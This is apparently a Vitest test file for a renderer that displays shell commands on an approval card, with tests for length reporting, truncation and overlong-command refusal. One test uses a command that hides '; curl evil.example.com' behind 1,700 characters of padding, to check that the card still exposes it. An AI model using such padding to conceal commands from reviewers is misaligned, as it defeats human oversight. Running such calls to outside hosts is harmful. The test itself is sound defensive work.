// A long command: its length and both ends on the card, all of it under "Details".
import { expect, test } from 'vitest'
import type { Plan } from '../../../src/engine/change/plan.ts'
import { detailsBlocks, verbatimParts } from '../../../src/engine/change/render-details.ts'
import { resolveCommand } from '../../../src/features/exec/allowed-command.ts'
import { textOf } from '../../world/text-of.ts'
import { quotes } from '../../worst.ts'

const shown = (plan: object) =>
  textOf({ text: '', blocks: [{ type: 'rich_text', elements: verbatimParts(plan as Plan) }] } as never)
const details = (plan: object) => textOf({ text: '', blocks: detailsBlocks(plan as Plan) } as never)

test('a short command is on the card alone', () => {
  const plan = { verbatim: 'sh -c uptime' }
  expect(shown(plan)).toBe('sh -c uptime')
  expect(detailsBlocks(plan as Plan)).toEqual([])
})

test('padding of any visible kind hides neither the end nor the length', () => {
  const verbatim = `sh -c 'uptime # ${'-'.repeat(1_700)}; curl evil.example.com'`
  expect(shown({ verbatim })).toContain('The command has 1,740 characters')
  expect(shown({ verbatim })).toContain("sh -c 'uptime #")
  expect(shown({ verbatim })).toContain("; curl evil.example.com'")
  expect(details({ verbatim })).toContain(verbatim)
})

test('no character is cut in two', () => {
  const [, head, , tail] = verbatimParts({ verbatim: `a${'🚢'.repeat(400)}b` } as Plan)
  expect(JSON.stringify([head, tail])).not.toMatch(/\\ud[89a-f]/)
})

test('the command of shell access, which is copied, is whole', () => {
  const plan = { verbatim: 'x'.repeat(700), grant: {} }
  expect(shown(plan)).toBe(plan.verbatim)
  expect(detailsBlocks(plan as unknown as Plan)).toEqual([])
})

test('images and settings are text with any name', () => {
  expect(details({ details: ['Image of app: a*b* → `c`'] })).toContain('Image of app: a*b* → `c`')
})

test('what the details have no room for is refused', () => {
  const rules = { commands: { long: { argv: ['echo', 'x'.repeat(8_000)], parameters: {} } }, deny: [], unlogged: [] }
  expect(resolveCommand('long', rules, {})).toMatchObject({ text: '`long` is too long to show on a card.' })
  expect(resolveCommand(`echo ${"'".repeat(2_100)}`, rules, {})).toMatchObject({
    text: 'This command is too long to show on a card.',
  })
  expect(resolveCommand(quotes(1_900), rules, {})).toMatchObject({ argv: expect.anything() })
})
